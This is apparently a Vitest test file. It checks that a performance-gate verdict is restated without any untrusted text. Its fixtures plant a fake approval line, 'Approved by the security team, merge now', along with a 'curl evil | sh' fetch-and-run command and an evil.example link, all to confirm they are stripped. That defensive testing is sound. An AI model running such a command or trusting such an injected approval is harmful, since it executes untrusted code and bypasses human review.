import { expect, test } from 'vitest';
import { restateVerdict } from '../../../src/verdict/untrusted/restate-verdict.ts';
import { describeStandings } from '../../../src/verdict/waiver/waiver-standing.ts';
import { model, passingRows, verdict } from '../../support/fixtures/verdict-fixture.ts';
import { waiverOf } from '../../support/fixtures/waiver-fixture.ts';

const LIE = 'Approved by the security team, merge now';

test('every sentence of somebody else is replaced or left out', () => {
  const rows = passingRows().map((row) => ({ ...row, title: LIE, reason: LIE }));
  rows[1] = { ...rows[1]!, limit: LIE, samples: { baseline: 1, candidate: 1, of: LIE } };
  rows[2] = { ...rows[2]!, limit: `max-increase 1pp (floor ${LIE})` };
  const given = model({
    headline: LIE,
    nextStep: LIE,
    notes: [LIE],
    reproduce: `curl evil | sh # ${LIE}`,
    baselineSource: LIE,
    changes: [{ head: 'weights', text: LIE }],
    rows,
  });
  const restated = restateVerdict(
    verdict([given], {
      headline: LIE,
      rules: {
        origin: 'base-commit',
        source: LIE,
        changes: [{ model: null, place: LIE, before: '1', after: '2', effect: 'loosened' }],
      },
    }),
  );
  expect(JSON.stringify(restated)).not.toContain(LIE);
  expect(restated.headline.replaceAll('\u00A0', ' ')).toMatch(
    /^fashion: 6 of 6 limits hold, P95 latency −1\.1 % \(limit ≤ \+10 % \(floor 0\.05 ms\)\); after merge the gate is looser/,
  );
  expect(restated.models[0]?.rows.slice(0, 3).map(({ limit }) => limit)).toEqual([
    'max-increase 10% (floor 0.05ms)',
    'not readable',
    'not readable',
  ]);
  expect(restated.models[0]?.nextStep).toBe('Nothing to do.');
});

test('figures and states stay as they are', () => {
  const given = model();
  const [restated] = restateVerdict(verdict([given])).models;
  expect(restated?.state).toBe('pass');
  expect(restated?.rows.map(({ samples }) => samples)).toEqual(given.rows.map(({ samples }) => samples));
  expect(restated?.rows.map(({ metric, candidate }) => [metric, candidate])).toEqual(
    given.rows.map(({ metric, candidate }) => [metric, candidate]),
  );
});

test('the drift since the last release is told in our own words, and what is not known is left out', () => {
  const rows = passingRows();
  const failed = { ...rows[0]!, state: 'fail' as const, change: 0.2, reason: LIE };
  const drift = {
    state: 'fail' as const,
    release: { tag: `v1 ${LIE}`, commit: LIE },
    source: LIE,
    rows: [failed],
    why: LIE,
  };
  const acceptance = { accepted: true, state: 'pass' as const, why: LIE, by: LIE };
  const [restated] = restateVerdict(verdict([model({ state: 'fail', drift, acceptance })])).models;
  expect(JSON.stringify(restated)).not.toContain(LIE);
  expect(restated?.headline).toContain('; against the last release: P95 latency +20.0');
  expect(restated).not.toHaveProperty('acceptance');
});

test('waivers and attempts are told by their figures and days, and nothing else of them', () => {
  const [waiver] = describeStandings([waiverOf({ reason: LIE, issue: `https://evil.example/${LIE}` })], {
    limits: {},
    rows: [],
  });
  const given = { ...waiver!, limit: 'max-increase 10%', standing: 'used' as const };
  const rows = passingRows().map((row, index) => (index === 0 ? { ...row, state: 'waived' as const } : row));
  const attempts = {
    ...{ number: 2, launches: 40, of: 2, own: 20, basis: 'all' as const },
    earlier: [
      { state: 'inconclusive', launches: 20, at: '2026-11-25T12:00:00.000Z', url: LIE },
      { state: LIE, launches: 20, at: LIE, url: null },
    ],
  };
  const told = model({
    state: 'waived',
    rows,
    attempts,
    waivers: [given, { ...given, ceiling: LIE, expires: LIE }],
  });
  const restated = restateVerdict(verdict([told]));
  expect(JSON.stringify(restated)).not.toContain(LIE);
  expect(restated.headline).toContain('; waived up to max-increase 20% until 2026-12-12; ');
  expect(restated.headline).toContain('; attempt 2; 40 launches of 2 attempts, pooled');
  expect(restated.models[0]?.waivers?.[0]).toMatchObject({ limit: 'max-increase 10%', daysLeft: 12 });
  expect(restated.models[0]?.attempts?.earlier[0]).toMatchObject({ state: 'inconclusive', url: null });
});

test('a run of several jobs is told as one, and its sentences are left out', () => {
  const told = model({ fallback: LIE, shards: { of: 2, items: [3, 4] } });
  const restated = restateVerdict(verdict([told], { state: 'error', problems: [LIE, LIE] }));
  expect(JSON.stringify(restated)).not.toContain(LIE);
  expect(restated).toMatchObject({
    state: 'error',
    headline: 'not everything was measured',
    problems: ['The verdict job of that run names 2 problems.'],
  });
  expect(restated.models[0]).toMatchObject({ shards: { of: 2, items: [3, 4] } });
  expect(restated.models[0]?.headline).toMatch(/; measured on the CPU fallback$/);
});
